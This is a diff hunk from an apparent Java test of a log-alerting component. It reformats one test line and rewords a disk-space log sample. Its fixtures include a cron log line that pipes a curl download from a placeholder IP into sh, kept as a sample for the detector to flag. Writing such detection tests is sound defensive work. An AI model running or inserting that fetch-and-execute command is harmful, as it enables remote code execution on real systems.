@@ -56,10 +56,11 @@ final class HostileBytesTest {
           raised("alerts cron", "CRON[7]: (root) CMD (/tmp/#)"),
           raised("alerts cron", "CRON[7]: (root) CMD (curl http://192.0.2.7/# | sh)"),
           raised("alerts kernel", "kernel: ptrace attach of \"x#\"[7] was attempted by \"y#\"[8]"),
-          raised("alerts kernel", "kernel: usercopy: Kernel memory exposure attempt detected from #"),
+          raised(
+              "alerts kernel", "kernel: usercopy: Kernel memory exposure attempt detected from #"),
           raised("failures storage", "kernel: EXT4-fs error (device sda1): comm x#: bad entry"),
           raised("events systemd", "systemd[1]: Started /tmp/x#"),
-          raised("failures space", "x[7]: /srv/#: write error: No space left on device"));
+          raised("failures space", "x[7]: write error: No space left on device: /srv/#"));
 
   private static final List<String> BYTES =
       List.of(
